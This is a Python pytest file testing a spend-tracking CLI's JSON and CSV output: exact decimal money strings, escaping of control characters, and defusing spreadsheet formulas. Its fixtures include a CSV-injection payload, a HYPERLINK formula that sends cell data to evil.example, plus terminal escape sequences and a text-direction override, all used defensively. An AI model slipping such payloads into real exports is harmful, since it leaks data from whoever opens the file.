"""`--format json|csv`: values reach a program exactly as stored (money as decimal strings, never
floats or rounded), in documents that parse whatever the values hold; the blocks table keeps one
line per block from 80 to 130 columns."""

import csv
import io
import json
from datetime import UTC, datetime, timedelta
from decimal import Decimal

import pytest
from rich.console import Console

from spendpipe.admin.cli_budgets import decisions_table
from spendpipe.admin.formats import OutputFormat, csv_text, emit, json_text, money_text
from spendpipe.contracts.decisions import Decision

HOSTILE = [
    "[bold red]admin[/bold red]",
    "\x1b[2Jwiped",
    "over\rwritten",
    "\x9b2J\x07\x00",
    "line\nbreak\ttab",
    "\u202eevil",
    'quote " and, comma',
    "naïve 名前",
]
"""Values from data that must come back as they were."""

FORMULAS = ['=HYPERLINK("https://evil.example/?"&A1,"open")', "+1+1", "-2+3", "@SUM(A1:A9)", "\tx", "\r=1"]
"""Values a spreadsheet would run as a formula if a CSV cell began with them."""

HUGE = Decimal(str(10**51) + ".000000000000000000000001")  # Decimal(76, 24) at both ends
MONEY = [Decimal("0.120000000000000000000000"), HUGE, Decimal("-0E-24"), Decimal("7")]


def test_money_is_a_decimal_string_exact_to_the_last_place() -> None:
    assert [money_text(m) for m in MONEY] == ["0.12", str(10**51) + ".000000000000000000000001", "0", "7"]
    document = json.loads(json_text([{"spend": m} for m in MONEY]))
    assert [Decimal(row["spend"]) for row in document] == MONEY
    assert all(isinstance(row["spend"], str) for row in document)
    rows = list(csv.reader(io.StringIO(newline="", initial_value=csv_text(["spend"], [[m] for m in MONEY]))))
    assert [Decimal(r[0]) for r in rows[1:]] == MONEY


@pytest.mark.parametrize("value", HOSTILE, ids=repr)
def test_a_hostile_value_parses_back_as_it_was(value: str) -> None:
    text = json_text([{"scope_id": value, "spend": Decimal("1.5")}])

    assert json.loads(text) == [{"scope_id": value, "spend": "1.5"}]
    assert text.isascii()  # no control character, override or non-ASCII byte reaches the terminal raw
    assert list(csv.reader(io.StringIO(newline="", initial_value=csv_text(["scope_id", "n"], [[value, 3]])))) == [
        ["scope_id", "n"],
        [value, "3"],
    ]


@pytest.mark.parametrize("value", FORMULAS, ids=repr)
def test_a_value_a_spreadsheet_would_run_is_text_in_csv_and_exact_in_json(value: str) -> None:
    """An end customer's `user` named `=HYPERLINK(...)` must not become a live formula in the
    sheet an analyst opens `spend --format csv` in: CSV gives it a leading `'` (OWASP's advice),
    which spreadsheets read as "this is text". JSON, for programs, carries it as it was."""
    text = csv_text(["scope_id", "spend"], [[value, Decimal("-1.5")]])

    assert list(csv.reader(io.StringIO(newline="", initial_value=text)))[1] == ["'" + value, "-1.5"]
    assert json.loads(json_text([{"scope_id": value}])) == [{"scope_id": value}]


def test_numbers_keep_their_sign_in_csv_also_when_written_as_text() -> None:
    """Money read from a record's JSON is a string (`alerts tail`): a figure, never a formula."""
    row = [Decimal("-0.25"), -3, -0.5, "-0.000000000000000000000001", "+7", "-1e-3", "-.5"]
    text = csv_text(["spend", "n", "ratio", "remaining", "a", "b", "c"], [row])

    assert list(csv.reader(io.StringIO(newline="", initial_value=text)))[1] == [
        "-0.25", "-3", "-0.5", "-0.000000000000000000000001", "+7", "-1e-3", "-.5"
    ]  # fmt: skip


def test_a_lone_surrogate_is_escaped_in_csv_so_a_utf8_stdout_takes_it() -> None:
    text = csv_text(["scope_id"], [["team:\ud800"]])

    assert text.encode() == b"scope_id\r\nteam:\\ud800\r\n"


def test_other_types_are_carried_exactly() -> None:
    at = datetime(2026, 12, 1, 19, 0, 30, 123456, tzinfo=UTC)
    row = [at, None, True, 2**100, float("inf"), b"\xffraw", ("a", Decimal("0.5")), {"gpt-4o": Decimal("2.50")}]
    columns = ["at", "none", "flag", "tokens", "ratio", "bytes", "tags", "caps"]

    assert json.loads(json_text([dict(zip(columns, row, strict=True))])) == [
        {"at": "2026-12-01T19:00:30.123456+00:00", "none": None, "flag": True, "tokens": 2**100, "ratio": "inf",
         "bytes": "\\xffraw", "tags": ["a", "0.5"], "caps": {"gpt-4o": "2.5"}}
    ]  # fmt: skip
    assert list(csv.reader(io.StringIO(newline="", initial_value=csv_text(columns, [row]))))[1] == [
        "2026-12-01T19:00:30.123456+00:00", "", "true", str(2**100), "inf", "\\xffraw", '["a","0.5"]',
        '{"gpt-4o":"2.5"}',
    ]  # fmt: skip


@pytest.mark.parametrize("fmt", list(OutputFormat))
def test_an_empty_listing_says_so_on_stderr_and_stdout_stays_a_document(
    fmt: OutputFormat, capsys: pytest.CaptureFixture[str]
) -> None:
    emit(fmt, table="(a table)", columns=["scope_id", "spend"], rows=[], empty="no spend recorded for any team")

    out, err = capsys.readouterr()
    assert err == "no spend recorded for any team\n"
    assert out == {OutputFormat.TABLE: "", OutputFormat.JSON: "[]\n", OutputFormat.CSV: "scope_id,spend\r\n"}[fmt]


def test_a_listing_with_rows_says_nothing_on_stderr(capsys: pytest.CaptureFixture[str]) -> None:
    emit(OutputFormat.JSON, table="", columns=["a"], rows=[[Decimal("1.10")]], empty="no rows")

    out, err = capsys.readouterr()
    assert (json.loads(out), err) == ([{"a": "1.1"}], "")


def _blocks() -> list[Decision]:
    now = datetime(2026, 12, 1, 19, 0, tzinfo=UTC)
    reason = "Budget has been exceeded! a long reason that repeats the scope and the amounts " * 2
    common = {"version": 1, "blocked": True, "reason": reason, "decided_at": now}
    return [
        Decision(scope="key:" + "ab" * 32, window="24h", spend=Decimal("12.345678"), cap=Decimal(10),
                 expires_at=now + timedelta(hours=3), **common),
        Decision(scope="team_member:engineering/alice@example.com", model="anthropic/claude-3-5-sonnet-20241022",
                 window="1mo", spend=Decimal("1000.5"), cap=Decimal(1000), expires_at=now + timedelta(days=3),
                 **common),
        Decision(scope="team:eng", kind="rate_limit", rate_limit_type="tokens", window="1m", spend=Decimal(90000),
                 cap=Decimal(80000), expires_at=now + timedelta(seconds=30), **common),
        Decision(scope="end_user:acme corp with spaces", window="lifetime", spend=Decimal(5), cap=Decimal(5),
                 **common),
    ]  # fmt: skip


@pytest.mark.parametrize("width", [80, 100, 130])
def test_the_blocks_table_fits_the_terminal_one_line_per_block(width: int) -> None:
    out = io.StringIO()
    Console(file=out, width=width).print(decisions_table(_blocks(), "blocks in force"))
    lines = out.getvalue().splitlines()

    assert max(len(line) for line in lines) <= width
    body = [line for line in lines if line.startswith("│")]
    assert len(body) == len(_blocks())  # no cell wraps onto a second line
    for line in body:
        assert line.count("team:eng") + line.count("key:") + line.count("end_user:") <= 1  # the scope once
    amounts = [[cell.strip() for cell in line.split("│")[3:7]] for line in body]
    assert amounts == [
        ["5", "5", "lifetime", "never"],
        ["12.345678", "10", "24h", "12-01 22:00:00"],
        ["90000", "80000", "tpm", "12-01 19:00:30"],
        ["1000.5", "1000", "1mo", "12-04 19:00:00"],
    ]  # amounts and times are never cut
